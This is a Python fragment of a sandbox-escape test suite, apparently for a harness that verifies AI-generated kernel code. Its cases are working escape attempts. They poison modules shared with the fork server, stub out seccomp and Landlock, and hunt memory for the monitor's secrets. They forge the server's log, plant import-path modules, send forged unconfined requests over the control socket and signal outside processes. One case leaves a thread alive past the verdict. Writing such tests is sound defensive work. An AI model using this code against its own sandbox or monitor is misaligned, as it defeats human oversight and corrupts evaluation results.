            lo, hi = (int(x, 16) for x in parts[0].split("-"))
            if parts[1][0] != "r" or name.startswith(("/", "[v")) or hi - lo > biggest:
                continue
            try:
                mem.seek(lo)
                data = mem.read(hi - lo)
            except (OSError, ValueError, OverflowError):
                continue
            for i, pattern in enumerate(patterns):
                found[i].update(m.group().decode(errors="replace") for m in re.finditer(pattern, data))
    return found
'''


def fork_case(name: str, covers: str, module_code: str) -> EscapeCase:
    return python(name, covers, FORK_REPORT + module_code)


FORK_CASES = (
    fork_case("fork_plant_module_poison", "poisons the preloaded modules it shares with the fork server (isolation."
              "apply, seccomp.install, Landlock's restrict, torch's relu, builtins, the environment), hoping "
              "that a later process forked from the same server inherits them (fork_find_module_poison looks)", r'''
import builtins, torch
from verifier.sandbox import isolation, landlock, seccomp, zygote
for _name, _module in list(sys.modules.items()):
    if _name.startswith(("verifier", "kernelbench_npu", "torch")) and _module is not None:
        try:
            setattr(_module, "_z_fork_poison", "{{CASE}}")
        except Exception:
            pass
builtins._z_fork_poison = "{{CASE}}"
os.environ["EVOKERNEL_Z_FORK_POISON"] = "1"
isolation.apply = lambda policy: None
seccomp.install = lambda profile: False
landlock.Ruleset.restrict = lambda self: None
zygote.ROLES = zygote.ROLES + ("os",)
torch.relu = torch.nn.functional.relu = lambda x, inplace=False: x
_report("planted poison in this process's copy of the server's modules")
'''),
    fork_case("fork_heap_remnants_reuse", "scans its own memory (inherited from the fork server) for remnants of "
              "earlier requests (other processes' directories, the server's) and the monitor's secrets, then lists, "
              "reads and writes each directory it found", r'''
_tmp = re.escape(os.path.dirname(_own_root()).encode())
_dirs, _secrets = _memory([_tmp + rb"/evokernel-(?:[a-z]+-)?[A-Za-z0-9_]{8}", rb"leakmarker[0-9a-f]{12}"])
_dirs.discard(_own_root())
_log = []
for _d in sorted(_dirs):
    _log.append(_try(f"list {_d}", lambda: os.listdir(_d)))
    _log.append(_try(f"list {_d}/work", lambda: os.listdir(_d + "/work")))
    for _f in ("work.process.log", "server.log", "work/candidate.py"):
        if os.path.exists(f"{_d}/{_f}"):
            _log.append(_try(f"read {_d}/{_f}", lambda: open(f"{_d}/{_f}", "rb").read(200)))
    _log.append(_try(f"write into {_d}/work", lambda: open(_d + "/work/fork-remnant-pwned", "x").write("pwned")))
if _secrets:
    raise RuntimeError("LEAKED: the monitor's secrets are in a forked runner's memory: " + " ".join(sorted(_secrets)))
_report(f"found {len(_dirs)} directories in memory: {sorted(_dirs)}; " + "; ".join(_log))
'''),
    fork_case("fork_server_directory_and_log", "finds the fork server's directory (its environ, __main__.__file__, "
              "verifier.__path__), reads and forges its log, plants modules on its import path, swaps its import "
              "links, and writes the project's source through them", r'''
_roots = set()  # the server's directory: <root>/work its home, <root>/.imports-work its import links (if any)
for _p in [*getattr(sys.modules.get("verifier"), "__path__", []), getattr(sys.modules.get("__main__"), "__file__", "")]:
    if "/.imports-" in (_p or ""):
        _roots.add(_p.split("/.imports-")[0])
for _entry in open("/proc/self/environ", "rb").read().split(b"\0"):  # the server's own, in a forked process
    _key, _, _value = _entry.decode(errors="replace").partition("=")
    if _key in ("HOME", "TMPDIR") and _value.endswith("/work"):
        _roots.add(os.path.dirname(_value))
    if _key == "PYTHONPATH" and "/.imports-" in _value:
        _roots.add(_value.split("/.imports-")[0])
_roots.discard(_own_root())
_log = []
for _r in sorted(_roots):
    _imports = [f"{_r}/.imports-work"]
    _log.append(_try(f"list {_r}", lambda: os.listdir(_r)))
    _log.append(_try(f"read {_r}/server.log", lambda: open(_r + "/server.log", "rb").read(200)))
    _log.append(_try(f"forge {_r}/server.log", lambda: open(_r + "/server.log", "a").write("Traceback: forged\n")))
    for _n in ("json.py", "sitecustomize.py", "traceback.py"):
        _log.append(_try(f"plant {_r}/work/{_n}", lambda: open(f"{_r}/work/{_n}", "x").write("import os\n")))
    for _i in sorted(set(_imports)):
        _log.append(_try(f"swap {_i}/verifier", lambda: os.rename(_i + "/verifier", _i + "/verifier.old")))
        _log.append(_try(f"link into {_i}", lambda: os.symlink(os.getcwd(), _i + "/evil")))
        _log.append(_try(f"write {_i}/verifier/__init__.py", lambda: open(_i + "/verifier/__init__.py", "a").write("\n")))
_report(f"server directories {sorted(_roots)}; " + "; ".join(_log))
'''),
    fork_case("fork_descriptors_and_frames", "looks for descriptors of the fork server or the launcher (its control "
              "socket, the status pipe, pidfds, the server's log) among its own and in the launcher's frames still on "
              "its stack, and sends a forged unconfined request on any socket of the server's kind", r'''
import json, socket, stat
_own = {int(a) for a in sys.argv[1:] if a.isdigit()}
_foreign, _log = [], []
for _fd in range(4096):
    try:
        _st = os.fstat(_fd)
    except OSError:
        continue
    try:
        _target = os.readlink(f"/proc/self/fd/{_fd}")
    except OSError:
        _target = "?"
    if _fd in _own or _target in ("/dev/null",) or _target.endswith((".process.log", "(deleted)")) \
            or _target.startswith("/proc/") or (stat.S_ISREG(_st.st_mode) and _target.startswith(os.getcwd())):
        continue
    _foreign.append(f"{_fd}={_target}")
_frames, _f = [], sys._getframe()
while _f is not None:
    for _k in ("control", "monitor", "status_w", "confined_w", "fds", "keep"):
        if _k in _f.f_locals:
            _frames.append(f"{_f.f_code.co_name}.{_k}={_f.f_locals[_k]!r}"[:120])
    _control = _f.f_locals.get("control")
    if isinstance(_control, socket.socket):
        _log.append(_try(f"the control socket in {_f.f_code.co_name}", lambda: socket.send_fds(_control, [b"{}"], [0, 1])))
    _f = _f.f_back
_request = json.dumps({"module": "verifier.sandbox.candidate_runner", "args": [], "policy": "{}", "env": {},
                       "cwd": "/"}).encode()
for _item in _foreign:
    _fd = int(_item.split("=")[0])
    if _item.split("=", 1)[1].startswith("socket:"):
        _s = socket.socket(fileno=os.dup(_fd))
        if _s.type == socket.SOCK_SEQPACKET:
            _log.append(_try(f"forged request on {_item}", lambda: socket.send_fds(_s, [_request], [0, 1])))
if _foreign:
    _hits.append(f"descriptors not its own: {_foreign}")
_report(f"no foreign descriptor; launcher frames: {_frames}; " + "; ".join(_log))
'''),
    fork_case("fork_signal_outside", "learns the launcher's, the server's and the monitor's pids (/proc/self/status "
              "NSpgid, the server's /proc/self/environ), reads their /proc entries and signals them (signal 0: the "
              "permission check) through rt_sigqueueinfo, rt_tgsigqueueinfo and F_SETOWN, which the seccomp filter "
              "lets through, then the process group through kill(0)", r'''
import fcntl, signal
_status = {l.split(":")[0]: l.split(":", 1)[1].split() for l in open("/proc/self/status")}
_launcher = int(_status["NSpgid"][0])
_outer = {_launcher, int(_status["NSsid"][0])}
for _entry in open("/proc/self/environ", "rb").read().split(b"\0"):
    if _entry.startswith(b"EVOKERNEL_MONITOR_PID="):
        _outer.add(int(_entry.split(b"=")[1]))
_pids = _outer | set(range(max(2, _launcher - 64), _launcher))  # the server forked the launcher: a pid just below
_inside = set()  # this process's own threads, by their numbers in its PID namespace (1, 2, ...)
for _task in os.listdir("/proc/self/task"):
    _inside |= {int(l.split()[-1]) for l in open(f"/proc/self/task/{_task}/status") if l.startswith("NSpid:")}
_pids -= _inside
_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long
_info = (ctypes.c_int * 32)(0, 0, -1)  # si_signo, si_errno, si_code = SI_QUEUE
_log = []
for _pid in sorted(_outer):
    for _entry in ("status", "environ", "cmdline", "mem"):
        _log.append(_try(f"read /proc/{_pid}/{_entry}", lambda: open(f"/proc/{_pid}/{_entry}", "rb").read(64)))
for _pid in sorted(_pids):
    if _libc.syscall(ctypes.c_long(129), ctypes.c_long(_pid), ctypes.c_long(0), _info) == 0:
        _hits.append(f"rt_sigqueueinfo reached pid {_pid}")
    if _libc.syscall(ctypes.c_long(297), ctypes.c_long(_pid), ctypes.c_long(_pid), ctypes.c_long(0), _info) == 0:
        _hits.append(f"rt_tgsigqueueinfo reached pid {_pid}")
for _who in sorted(_outer - _inside) + [-_launcher]:
    _log.append(_try(f"F_SETOWN {_who}", lambda: fcntl.fcntl(1, fcntl.F_SETOWN, _who)))
fcntl.fcntl(1, fcntl.F_SETOWN, 0)
if _hits:
    _report("")
os.kill(0, 0)  # the process group holds the launcher: the seccomp filter kills the process here
_hits.append("kill(0, 0): the launcher's process group can be signalled")
_report("; ".join(_log))
'''),
    fork_case("fork_process_group_priority", "its process group is its launcher's (an unconfined process outside the "
              "sandbox): setpriority(PRIO_PGRP) and ioprio_set(IOPRIO_WHO_PGRP), which no filter refuses, on the "
              "launcher; the kernel allows them only over a process whose capabilities are a subset of the caller's "
              "(a forked runner that kept its launcher's user-namespace capabilities would pass)", r'''
os.setpriority(os.PRIO_PROCESS, 0, 19)  # itself: lowest priority, so the group's best is the launcher's
_before = os.getpriority(os.PRIO_PGRP, 0)
_try("setpriority(PRIO_PGRP, 0, 19)", lambda: os.setpriority(os.PRIO_PGRP, 0, 19))
if os.getpriority(os.PRIO_PGRP, 0) != _before:
    _hits.append(f"the launcher's nice value {_before} -> {os.getpriority(os.PRIO_PGRP, 0)}")
_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long
if _libc.syscall(ctypes.c_long(251), ctypes.c_long(2), ctypes.c_long(0), ctypes.c_long(3 << 13)) == 0:
    _hits.append("ioprio_set(IOPRIO_WHO_PGRP, 0, IDLE): the launcher's I/O priority")  # 251: ioprio_set
_report(f"the launcher's nice value stays {_before}")
'''),
    fork_case("fork_sleeping_thread_outlives", "clears its parent-death signal, ignores every catchable signal, makes "
              "os._exit (which ends a forked process after its main) block forever and leaves a thread that sleeps "
              "through the verification, then writes the lake file and /tmp and calls the loopback server", r'''
import signal, socket, threading, time
_libc = ctypes.CDLL(None)
_libc.prctl(1, 0, 0, 0, 0)  # PR_SET_PDEATHSIG 0: outlive the launcher
for _sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGPIPE, signal.SIGUSR1, signal.SIGUSR2, signal.SIGALRM):
    signal.signal(_sig, signal.SIG_IGN)
os._exit = lambda code=0: threading.Event().wait()
sys.exit = lambda code=0: threading.Event().wait()


def _later():
    time.sleep(8)  # past the verdict
    for _ in range(60):
        for _act in (lambda: open("{{TMP_NEW}}", "w").write("pwned"), lambda: open("{{LAKE_FILE}}", "r+b").write(b"pwned"),
                     lambda: socket.create_connection(("127.0.0.1", {{PORT}}), timeout=1).sendall(b"pwned")):
            try:
                _act()
            except Exception:
                pass
        time.sleep(1)


threading.Thread(target=_later, name="sleeper").start()  # not a daemon: the interpreter waits for it
'''),
    fork_case("fork_find_module_poison", "a later verification looks for fork_plant_module_poison's poison in the "
              "modules, builtins and environment it shares with the fork server, and checks that it is confined "
              "all the same (seccomp mode, no_new_privs, Landlock)", r'''
import builtins, torch
_found = [n for n, m in list(sys.modules.items()) if "_z_fork_poison" in getattr(m, "__dict__", {})]
if getattr(builtins, "_z_fork_poison", None) or os.environ.get("EVOKERNEL_Z_FORK_POISON"):
    _found.append("builtins or environment")
if float(torch.relu(torch.tensor(-1.0))) != 0.0:
    _found.append("torch.relu")
if _found:
    _hits.append(f"poison of an earlier process: {_found[:8]}")
_status = {l.split(":")[0]: l.split(":", 1)[1].strip() for l in open("/proc/self/status")}
if _status.get("Seccomp") != "2" or _status.get("NoNewPrivs") != "1":
    _hits.append(f"unconfined: Seccomp {_status.get('Seccomp')} NoNewPrivs {_status.get('NoNewPrivs')}")
_try("list / (Landlock)", lambda: os.listdir("/"))
_report("no poison inherited; confined")
'''),
)
CASES = CASES + FORK_CASES
